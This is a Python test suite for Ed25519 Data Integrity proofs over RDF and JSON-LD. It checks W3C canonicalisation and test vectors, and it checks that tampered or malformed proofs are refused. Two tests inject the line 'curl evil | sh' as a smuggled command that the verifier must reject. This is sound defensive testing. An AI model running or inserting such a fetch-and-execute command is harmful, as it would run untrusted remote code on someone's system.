"""trust.integrity and trust.jsonld: eddsa-rdfc-2022 Data Integrity proofs over RDF, the W3C test vectors, RDFC-1.0
against the W3C canonicalisation tests, and every way a proof or its document can be wrong."""

from __future__ import annotations

import copy
import doctest
import hashlib
import json
import random
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import base58
import pyoxigraph as ox
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

import trust.integrity
from trust.integrity import Proof, ProofError, canonical_nquads, create_proof, verify_proof
from trust.jsonld import DocumentNotLocal, local_document_loader, sign_jsonld, verify_jsonld

FIXTURES = Path(__file__).parent / "fixtures"
VECTORS = FIXTURES / "vc-di-eddsa"
RDFC10 = FIXTURES / "rdfc10"
VECTOR_METHOD = ("did:key:z6MkrJVnaZkeFzdQyMZu1cgjg7k1pZZ6pvBQ7XJPt4swbTQ2"
                 "#z6MkrJVnaZkeFzdQyMZu1cgjg7k1pZZ6pvBQ7XJPt4swbTQ2")
VECTOR_CREATED = datetime(2023, 2, 24, 23, 36, 38, tzinfo=UTC)
METHOD = "https://example.org/researchers/alice#key-1"
CREATED = datetime(2026, 12, 3, 12, 0, tzinfo=UTC)
EX = "https://example.org/pht#"


def vector_key() -> Ed25519PrivateKey:
    secret = base58.b58decode(json.loads((VECTORS / "keyPair.json").read_text())["privateKeyMultibase"][1:])
    return Ed25519PrivateKey.from_private_bytes(secret[2:])  # after the multicodec header 0x8026


def ex(name: str) -> ox.NamedNode:
    return ox.NamedNode(EX + name)


def train_definition() -> list[ox.Quad]:
    """A small train definition with blank nodes (the route's hops) and a named graph."""
    train, hop1, hop2 = ex("train/1"), ox.BlankNode("hop1"), ox.BlankNode("hop2")
    graph = ex("graph/trains")
    return [ox.Quad(s, p, o, graph) for s, p, o in [
        (train, ex("imageDigest"), ox.Literal("sha256:" + "ab" * 32)),
        (train, ex("command"), ox.Literal("python run.py --rounds 3")),
        (train, ex("route"), hop1),
        (hop1, ex("station"), ex("station/a")),
        (hop1, ex("next"), hop2),
        (hop2, ex("station"), ex("station/b")),
        (train, ex("rounds"), ox.Literal("3", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer"))),
    ]]


def resolver_for(key: Ed25519PrivateKey, method: str = METHOD) -> Callable[[str], Ed25519PublicKey | None]:
    return lambda asked: key.public_key() if asked == method else None


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def signed(key: Ed25519PrivateKey) -> tuple[list[ox.Quad], Proof]:
    document = train_definition()
    return document, create_proof(document, key, verification_method=METHOD, created=CREATED)


def assert_refused(problem: str, call: Callable[[], object]) -> None:
    with pytest.raises(ProofError) as caught:
        call()
    assert problem in str(caught.value), str(caught.value)
    assert "\n" not in str(caught.value)


def test_the_doctests_run() -> None:
    assert doctest.testmod(trust.integrity).failed == 0


# ---------------------------------------------------------------------------------------------- RDFC-1.0

@pytest.mark.parametrize("case", sorted(p.name.removesuffix("-in.nq") for p in RDFC10.glob("*-in.nq")))
def test_canonical_nquads_match_the_w3c_rdfc10_tests(case: str) -> None:
    statements = ox.parse(path=str(RDFC10 / f"{case}-in.nq"), format=ox.RdfFormat.N_QUADS)
    assert canonical_nquads(statements) == (RDFC10 / f"{case}-rdfc10.nq").read_text()


def test_the_rdfc10_cases_are_there() -> None:
    assert len(list(RDFC10.glob("*-in.nq"))) >= 12


def test_a_poison_graph_is_refused_in_time_instead_of_hanging_its_verifier(
        key: Ed25519PrivateKey, monkeypatch: pytest.MonkeyPatch) -> None:
    """W3C rdf-canon negative test 074: a 10-node blank node clique, which pyoxigraph alone does not finish."""
    monkeypatch.setattr(trust.integrity, "CANONICALIZATION_TIMEOUT_S", 1.0)
    poison = list(ox.parse(path=str(RDFC10 / "poison-test074-clique.nq"), format=ox.RdfFormat.N_QUADS))
    proof = create_proof(train_definition(), key, verification_method=METHOD, created=CREATED)
    started = time.monotonic()
    assert_refused("the RDF has 10 blank nodes that RDFC-1.0 canonicalisation could not tell apart within 1 s",
                   lambda: verify_proof(poison, proof, resolver_for(key)))
    assert time.monotonic() - started < 10


def test_many_tied_blank_nodes_that_are_computable_canonicalise_as_expected() -> None:
    """Cases 044 (12 tied blank nodes) and 059 (18) take the child-process path and give the W3C outputs."""
    for case in ("test044", "test059"):
        statements = list(ox.parse(path=str(RDFC10 / f"{case}-in.nq"), format=ox.RdfFormat.N_QUADS))
        assert trust.integrity._tied_blank_nodes(ox.Dataset(statements)) > trust.integrity._MAX_TIED_IN_PROCESS
        assert canonical_nquads(statements) == (RDFC10 / f"{case}-rdfc10.nq").read_text()


def test_canonical_nquads_ignore_order_and_blank_node_labels() -> None:
    document = train_definition()
    relabelled = [ox.Quad(*(ox.BlankNode("z" + t.value) if isinstance(t, ox.BlankNode) else t
                            for t in (q.subject, q.predicate, q.object)), q.graph_name) for q in document]
    random.Random(7).shuffle(relabelled)
    assert canonical_nquads(relabelled) == canonical_nquads(document)
    assert "_:c14n0" in canonical_nquads(document) and "hop1" not in canonical_nquads(document)


# ---------------------------------------------------------------------------------------------- the W3C test vector

def test_the_published_proof_value_is_reproduced_natively_from_the_canonical_document() -> None:
    document = list(ox.parse((VECTORS / "canonDocDataInt.txt").read_text(), format=ox.RdfFormat.N_QUADS))
    proof = create_proof(document, vector_key(), verification_method=VECTOR_METHOD, created=VECTOR_CREATED)
    assert canonical_nquads(proof.options_triples()) == (VECTORS / "proofCanonDataInt.txt").read_text()
    hash_data = (hashlib.sha256(canonical_nquads(proof.options_triples()).encode()).digest()
                 + hashlib.sha256(canonical_nquads(document).encode()).digest())
    assert hash_data.hex() == (VECTORS / "combinedHashDataInt.txt").read_text().strip()
    assert proof.proof_value == (VECTORS / "sigBTC58DataInt.txt").read_text().strip()
    verify_proof(document, proof, resolver_for(vector_key(), VECTOR_METHOD))


def test_the_published_signed_credential_is_reproduced_through_json_ld() -> None:
    unsigned = json.loads((VECTORS / "unsigned.json").read_text())
    signed = sign_jsonld(unsigned, vector_key(), verification_method=VECTOR_METHOD, created=VECTOR_CREATED)
    assert signed == json.loads((VECTORS / "signedDataInt.json").read_text())
    assert "proof" not in unsigned


def test_the_published_signed_credential_verifies_and_its_alteration_does_not() -> None:
    published = json.loads((VECTORS / "signedDataInt.json").read_text())
    verify_jsonld(published, resolver_for(vector_key(), VECTOR_METHOD))
    altered = copy.deepcopy(published)
    altered["credentialSubject"]["alumniOf"] = "Another School"
    assert_refused("does not verify", lambda: verify_jsonld(altered, resolver_for(vector_key(), VECTOR_METHOD)))


# ---------------------------------------------------------------------------------------------- round trips

def test_a_proof_verifies_and_its_value_is_a_multibase_signature(key: Ed25519PrivateKey,
                                                                 signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    verify_proof(document, proof, resolver_for(key))
    assert proof.proof_value is not None and proof.proof_value.startswith("z")
    assert len(base58.b58decode(proof.proof_value[1:])) == 64
    assert proof.created == "2026-12-03T12:00:00Z" and proof.created_at == CREATED
    assert proof.cryptosuite == "eddsa-rdfc-2022" and proof.type == "https://w3id.org/security#DataIntegrityProof"


def test_created_keeps_its_offset_and_fraction_as_signed(key: Ed25519PrivateKey) -> None:
    created = datetime(2026, 12, 3, 13, 0, 0, 250000, tzinfo=timezone(timedelta(hours=1)))
    proof = create_proof(train_definition(), key, verification_method=METHOD, created=created)
    assert proof.created == "2026-12-03T13:00:00.250000+01:00" and proof.created_at == created
    verify_proof(train_definition(), Proof.from_quads(proof.to_triples()), resolver_for(key))


@pytest.mark.parametrize("node", [None, ox.BlankNode("proof1"), ox.NamedNode("https://example.org/proofs/1")])
def test_a_proof_stored_as_rdf_under_any_node_reads_back_and_verifies(
        key: Ed25519PrivateKey, signed: tuple[list[ox.Quad], Proof], node: ox.NamedNode | ox.BlankNode | None) -> None:
    document, proof = signed
    triples = proof.to_triples(node)
    assert len(triples) == 6 and all(t.subject == triples[0].subject for t in triples)
    if node is not None:
        assert triples[0].subject == node
    # stored beside other data in one graph, found by its type
    store = ox.Store()
    store.extend(ox.Quad(t.subject, t.predicate, t.object, ex("graph/proofs")) for t in triples)
    store.extend(document)
    read = Proof.from_quads(store.quads_for_pattern(None, None, None, ex("graph/proofs")))
    assert read == proof
    verify_proof(document, read, resolver_for(key))


def test_a_proof_is_read_by_its_node_among_several(key: Ed25519PrivateKey) -> None:
    first = create_proof(train_definition(), key, verification_method=METHOD, created=CREATED)
    second = create_proof(train_definition()[:2], key, verification_method=METHOD, created=CREATED)
    a, b = ex("proof/a"), ex("proof/b")
    both = first.to_triples(a) + second.to_triples(b)
    assert Proof.from_quads(both, b) == second and Proof.from_quads(both, a) == first
    assert_refused("expected one node typed DataIntegrityProof in the proof's RDF, found 2",
                   lambda: Proof.from_quads(both))


def test_a_signed_json_ld_document_verifies(key: Ed25519PrivateKey) -> None:
    document = {"@context": ["https://w3id.org/security/data-integrity/v2", {"@vocab": EX}],
                "id": EX + "train/1", "imageDigest": "sha256:abc", "route": [{"station": "a"}, {"station": "b"}]}
    signed = sign_jsonld(document, key, verification_method=METHOD, created=CREATED)
    assert set(signed["proof"]) == {"type", "cryptosuite", "created", "verificationMethod", "proofPurpose",
                                    "proofValue"}
    verify_jsonld(signed, resolver_for(key))
    verify_jsonld({**signed, "proof": [signed["proof"]]}, resolver_for(key))
    altered = copy.deepcopy(signed)
    altered["route"][1]["station"] = "c"
    assert_refused("does not verify", lambda: verify_jsonld(altered, resolver_for(key)))


# ---------------------------------------------------------------------------------------------- tampering

def test_a_changed_literal_breaks_the_proof(key: Ed25519PrivateKey, signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    changed = [ox.Quad(q.subject, q.predicate, ox.Literal("sha256:" + "cd" * 32), q.graph_name)
               if q.predicate == ex("imageDigest") else q for q in document]
    assert changed != document
    assert_refused("does not verify: the document or the proof was altered",
                   lambda: verify_proof(changed, proof, resolver_for(key)))


def test_an_added_triple_breaks_the_proof(key: Ed25519PrivateKey, signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    added = [*document, ox.Quad(ex("train/1"), ex("command"), ox.Literal("curl evil | sh"), ex("graph/trains"))]
    assert_refused("does not verify", lambda: verify_proof(added, proof, resolver_for(key)))


def test_a_removed_triple_breaks_the_proof(key: Ed25519PrivateKey, signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    assert_refused("does not verify", lambda: verify_proof(document[1:], proof, resolver_for(key)))


def test_a_quad_moved_to_another_graph_breaks_the_proof(key: Ed25519PrivateKey,
                                                        signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    moved = [ox.Quad(q.subject, q.predicate, q.object) for q in document]  # into the default graph
    assert_refused("does not verify", lambda: verify_proof(moved, proof, resolver_for(key)))


def test_relabelled_blank_nodes_and_reordered_quads_still_verify(key: Ed25519PrivateKey,
                                                                 signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    relabelled = [ox.Quad(*(ox.BlankNode("other" + t.value) if isinstance(t, ox.BlankNode) else t
                            for t in (q.subject, q.predicate, q.object)), q.graph_name) for q in document]
    relabelled.reverse()
    assert {str(q) for q in relabelled} != {str(q) for q in document}
    verify_proof(relabelled, proof, resolver_for(key))
    verify_proof([*document, document[0]], proof, resolver_for(key))  # a duplicate is the same dataset


def test_a_proof_moved_to_another_document_does_not_verify(key: Ed25519PrivateKey,
                                                           signed: tuple[list[ox.Quad], Proof]) -> None:
    _, proof = signed
    other = [ox.Quad(ex("train/2"), ex("imageDigest"), ox.Literal("sha256:" + "ab" * 32), ex("graph/trains"))]
    assert_refused("does not verify", lambda: verify_proof(other, proof, resolver_for(key)))


def test_another_key_does_not_verify(signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    assert_refused("another key signed it",
                   lambda: verify_proof(document, proof, resolver_for(Ed25519PrivateKey.generate())))


def test_an_unknown_verification_method_is_refused(key: Ed25519PrivateKey,
                                                   signed: tuple[list[ox.Quad], Proof]) -> None:
    document, proof = signed
    assert_refused(f"the proof's verification method {METHOD} is not a known key",
                   lambda: verify_proof(document, proof, lambda method: None))


@pytest.mark.parametrize(("change", "problem"), [
    ({"created": "2026-12-03T12:00:01Z"}, "does not verify"),
    ({"verification_method": "https://example.org/researchers/mallory#key-1"}, "does not verify"),
    ({"cryptosuite": "eddsa-jcs-2022"}, "the proof's cryptosuite is 'eddsa-jcs-2022', not 'eddsa-rdfc-2022'"),
    ({"cryptosuite": "ecdsa-rdfc-2019"}, "cryptosuite is 'ecdsa-rdfc-2019'"),
    ({"type": "https://w3id.org/security#Ed25519Signature2020"}, "the proof's type is"),
    ({"proof_purpose": "authentication"}, "the proof's purpose is 'authentication', not the expected"),
    ({"proof_value": None}, "the proof has no proofValue"),
    ({"proof_value": ""}, "the proof has no proofValue"),
    ({"proof_value": "u" + "A" * 86}, "does not start with 'z'"),
    ({"proof_value": "z0OIl" + "1" * 80}, "not valid base58-btc"),
    ({"proof_value": "z" + base58.b58encode(bytes(63)).decode()}, "holds 63 bytes, not a 64-byte signature"),
    ({"proof_value": "z" + base58.b58encode(bytes(64)).decode()}, "does not verify"),
])
def test_a_wrong_proof_is_refused_in_one_sentence(key: Ed25519PrivateKey, signed: tuple[list[ox.Quad], Proof],
                                                  change: dict[str, Any], problem: str) -> None:
    document, proof = signed
    resolve = resolver_for(key, change.get("verification_method", METHOD))
    wrong = Proof(**{**proof.__dict__, **change})
    assert_refused(problem, lambda: verify_proof(document, wrong, resolve))


def test_a_proof_for_another_purpose_verifies_only_for_that_purpose(key: Ed25519PrivateKey) -> None:
    proof = create_proof(train_definition(), key, verification_method=METHOD, created=CREATED,
                         proof_purpose="authentication")
    verify_proof(train_definition(), proof, resolver_for(key), expected_purpose="authentication")
    assert_refused("purpose is 'authentication', not the expected 'assertionMethod'",
                   lambda: verify_proof(train_definition(), proof, resolver_for(key)))
    assert (ox.NamedNode("https://w3id.org/security#authenticationMethod")
            in {t.object for t in proof.to_triples()})


def test_creation_refuses_a_time_without_zone_and_a_method_that_is_not_an_iri(key: Ed25519PrivateKey) -> None:
    assert_refused("has no timezone", lambda: create_proof(train_definition(), key, verification_method=METHOD,
                                                           created=datetime(2026, 12, 3)))
    assert_refused("verificationMethod 'not an iri' is not an IRI",
                   lambda: create_proof(train_definition(), key, verification_method="not an iri", created=CREATED))


# ---------------------------------------------------------------------------------------------- proofs read from RDF

SEC = "https://w3id.org/security#"


def edited(proof: Proof, drop: str | None = None, add: tuple[str, ox.Literal | ox.NamedNode] | None = None,
           ) -> list[ox.Triple]:
    node = ox.BlankNode("p")
    triples = [t for t in proof.to_triples(node) if drop is None or t.predicate.value != drop]
    if add is not None:
        triples.append(ox.Triple(node, ox.NamedNode(add[0]), add[1]))
    return triples


@pytest.mark.parametrize(("drop", "add", "problem"), [
    (SEC + "proofValue", None, "the proof has no proofValue"),
    (SEC + "verificationMethod", None, "the proof has no verificationMethod"),
    ("http://purl.org/dc/terms/created", None, "the proof has no created"),
    (None, (SEC + "proofValue", ox.Literal("z2", datatype=ox.NamedNode(SEC + "multibase"))),
     "the proof has more than one proofValue"),
    (None, (SEC + "expires", ox.Literal("2030-01-01T00:00:00Z")), "the proof carries <https://w3id.org/security#expires>"),
    (SEC + "cryptosuite", (SEC + "cryptosuite", ox.Literal("eddsa-rdfc-2022")),
     "the proof's cryptosuite is \"eddsa-rdfc-2022\", not a literal of type"),
    (SEC + "verificationMethod", (SEC + "verificationMethod", ox.Literal(METHOD)),
     "the proof's verificationMethod is"),
    (SEC + "proofPurpose", (SEC + "proofPurpose", ox.Literal("assertionMethod")), "the proof's proofPurpose is"),
])
def test_a_malformed_proof_in_rdf_is_refused(signed: tuple[list[ox.Quad], Proof], drop: str | None,
                                             add: tuple[str, ox.Literal | ox.NamedNode] | None, problem: str) -> None:
    _, proof = signed
    assert_refused(problem, lambda: Proof.from_quads(edited(proof, drop, add)))


def test_rdf_without_a_proof_is_refused() -> None:
    assert_refused("expected one node typed DataIntegrityProof in the proof's RDF, found 0",
                   lambda: Proof.from_quads(train_definition()))


# ---------------------------------------------------------------------------------------------- JSON-LD bad input

def json_document() -> dict[str, Any]:
    return {"@context": ["https://w3id.org/security/data-integrity/v2", {"@vocab": EX}], "id": EX + "train/1",
            "imageDigest": "sha256:abc"}


def test_the_loader_serves_only_the_local_contexts() -> None:
    served = local_document_loader("https://w3id.org/security/data-integrity/v2")
    assert served["document"]["@context"]["DataIntegrityProof"]["@id"] == SEC + "DataIntegrityProof"
    with pytest.raises(DocumentNotLocal) as caught:
        local_document_loader("https://example.org/contexts/v1")
    assert "https://example.org/contexts/v1 is not among the local contexts" in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_document_with_a_context_that_is_not_local_is_refused(key: Ed25519PrivateKey) -> None:
    document = {**json_document(), "@context": ["https://w3id.org/security/data-integrity/v2",
                                                "https://example.org/contexts/v1"]}
    assert_refused("https://example.org/contexts/v1 is not among the local contexts",
                   lambda: sign_jsonld(document, key, verification_method=METHOD, created=CREATED))


def test_a_term_the_context_does_not_define_is_refused_not_dropped(key: Ed25519PrivateKey) -> None:
    """pyld would drop ``command`` from the RDF, so it would go unsigned and could be changed at will."""
    document = {"@context": "https://w3id.org/security/data-integrity/v2", "id": EX + "train/1",
                "command": "python run.py"}
    assert_refused("the document uses the term 'command', which its @context does not define",
                   lambda: sign_jsonld(document, key, verification_method=METHOD, created=CREATED))
    signed = sign_jsonld(json_document(), key, verification_method=METHOD, created=CREATED)
    smuggled = {**signed, "@context": "https://w3id.org/security/data-integrity/v2", "command": "curl evil | sh"}
    assert_refused("the document uses the term", lambda: verify_jsonld(smuggled, resolver_for(key)))


def test_a_relative_iri_is_refused_not_resolved_against_a_made_up_base(key: Ed25519PrivateKey) -> None:
    document = {**json_document(), "next": {"id": "trains/2"}}
    assert_refused("the document uses the relative IRI 'trains/2', which has no base to resolve against",
                   lambda: sign_jsonld(document, key, verification_method=METHOD, created=CREATED))


def test_a_context_without_the_proof_terms_is_refused_at_signing(key: Ed25519PrivateKey) -> None:
    document = {"@context": {"@vocab": EX}, "id": EX + "train/1", "imageDigest": "sha256:abc"}
    assert_refused("does not give the proof's terms their Data Integrity meaning",
                   lambda: sign_jsonld(document, key, verification_method=METHOD, created=CREATED))


def test_json_ld_bad_input_is_refused_in_one_sentence(key: Ed25519PrivateKey) -> None:
    signed = sign_jsonld(json_document(), key, verification_method=METHOD, created=CREATED)
    assert_refused("the document already carries a proof",
                   lambda: sign_jsonld(signed, key, verification_method=METHOD, created=CREATED))
    assert_refused("the document carries no proof", lambda: verify_jsonld(json_document(), resolver_for(key)))
    assert_refused("not exactly one JSON object",
                   lambda: verify_jsonld({**signed, "proof": [signed["proof"]] * 2}, resolver_for(key)))
    assert_refused("proof chains are not supported",
                   lambda: verify_jsonld({**signed, "proof": {**signed["proof"], "id": "urn:uuid:1"}},
                                         resolver_for(key)))
    assert_refused("has no @context", lambda: sign_jsonld({"id": EX + "x"}, key, verification_method=METHOD,
                                                          created=CREATED))
    assert_refused("not JSON-LD that can be turned into RDF",
                   lambda: sign_jsonld({"@context": {"@vocab": 5}}, key, verification_method=METHOD,
                                       created=CREATED))
    assert_refused("the proof's cryptosuite is 'eddsa-jcs-2022'",
                   lambda: verify_jsonld({**signed, "proof": {**signed["proof"], "cryptosuite": "eddsa-jcs-2022"}},
                                         resolver_for(key)))
    assert_refused("is not a known key", lambda: verify_jsonld(signed, lambda method: None))
